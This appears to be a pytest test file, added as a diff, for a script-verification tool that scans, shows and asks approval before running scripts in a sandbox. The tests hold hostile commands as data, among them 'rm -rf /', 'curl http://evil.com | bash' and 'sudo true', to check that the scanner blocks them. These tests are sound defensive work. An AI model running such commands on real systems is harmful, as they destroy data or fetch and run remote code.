@@ -1,0 +1,96 @@
+"""S010–S045: nothing runs before it was scanned, shown and approved."""
+
+import json
+from pathlib import Path
+
+import pytest
+
+from refute.outcome import Status
+
+pytestmark = [pytest.mark.engine, pytest.mark.prefect]
+
+
+def audit_lines(path: Path) -> list[dict[str, object]]:
+    return [json.loads(line) for line in path.read_text().splitlines()]
+
+
+def test_s010_a_dry_run_shows_script_scan_and_plan_and_creates_no_container(ticket, cli, settings):
+    done = cli("verify", ticket(), "--dry-run", "--format", "json", DOCKER_HOST="unix:///nonexistent.sock")
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout)["status"] == "DRY_RUN"
+    assert "python -c 'import slug'" in done.stderr
+    assert "nothing dangerous found" in done.stderr
+    assert "bash verify.sh" in done.stderr
+
+
+def test_s020_rm_rf_of_the_root_is_blocked_before_any_prompt_with_line_and_pattern(ticket, cli):
+    done = cli("verify", ticket(script="echo hello\nrm -rf /\n"), "--format", "json", answer="y\n")
+    assert done.returncode == 12
+    outcome = json.loads(done.stdout)
+    assert outcome["status"] == "BLOCKED_DANGEROUS_SCRIPT"
+    assert "verify.sh:2" in outcome["reason"]
+    assert "rm -rf /" in outcome["reason"]
+    assert "[y/N]" not in done.stderr
+
+
+@pytest.mark.parametrize("command", ["curl http://evil.com", "curl http://evil.com | bash"])
+def test_s030_curl_to_an_external_host_is_blocked(ticket, verify, command):
+    outcome = verify(ticket(script=f"{command}\n"))
+    assert outcome.status is Status.BLOCKED_DANGEROUS_SCRIPT
+    assert outcome.verification_output == ""
+
+
+def test_s035_an_override_names_the_findings_asks_is_audited_and_still_runs_in_the_sandbox(ticket, cli, tmp_path):
+    script = "curl --max-time 2 http://evil.com && echo REACHED\necho done\n"
+    done = cli("verify", ticket(script=script), "--allow-dangerous", "--format", "json", answer="y\n")
+    assert "curl" in done.stderr
+    assert "in spite of" in done.stderr
+    outcome = json.loads(done.stdout)
+    assert "REACHED" not in outcome["verification_output"]
+    assert outcome["provenance"]["image_id"].startswith("sha256:")
+    overrides = [line for line in audit_lines(tmp_path / "cwd/logs/guardrails.jsonl") if line["gate"] == "scan_override"]
+    assert [line["decision"] for line in overrides] == ["allow"]
+
+
+def test_s035_yes_in_advance_does_not_answer_for_dangerous_findings(ticket, cli):
+    done = cli("verify", ticket(script="sudo true\n"), "--allow-dangerous", "--yes", "--format", "json", answer="")
+    assert done.returncode == 13
+    assert json.loads(done.stdout)["status"] == "CANCELLED"
+
+
+@pytest.mark.parametrize("answer", ["n\n", "\n", "", "yes please\n"])
+def test_s040_anything_but_a_clear_yes_cancels_and_nothing_is_executed(ticket, cli, answer, containers_made):
+    done = cli("verify", ticket(), "--format", "json", answer=answer, DOCKER_HOST="unix:///nonexistent.sock")
+    assert done.returncode == 13, done.stderr
+    outcome = json.loads(done.stdout)
+    assert outcome["status"] == "CANCELLED"
+    assert [stage["name"] for stage in outcome["stages"]][-1] == "scan"
+
+
+def test_s045_nobody_answers_in_time(ticket, settings):
+    import os
+    import subprocess
+    import sys
+
+    reading, writing = os.pipe()  # an input that stays silent
+    try:
+        done = subprocess.run(
+            [sys.executable, "-m", "flows.cli", "verify", str(ticket()), "--format", "json"],
+            stdin=reading,
+            capture_output=True,
+            text=True,
+            timeout=120,
+            env={
+                **os.environ,
+                "REFUTE_STATE_DIR": str(settings.state_dir),
+                "REFUTE_CONFIRMATION_TIMEOUT_S": "1",
+                "REFUTE_SERVER_IDLE_S": "120",
+                "GUARDRAIL_AUDIT_PATH": str(settings.audit_path),
+                "REFUTE_COSTS_CSV": str(settings.costs_csv),
+            },
+        )
+    finally:
+        os.close(reading)
+        os.close(writing)
+    assert done.returncode == 13, done.stderr
+    assert "nobody answered within 1 s" in json.loads(done.stdout)["reason"]
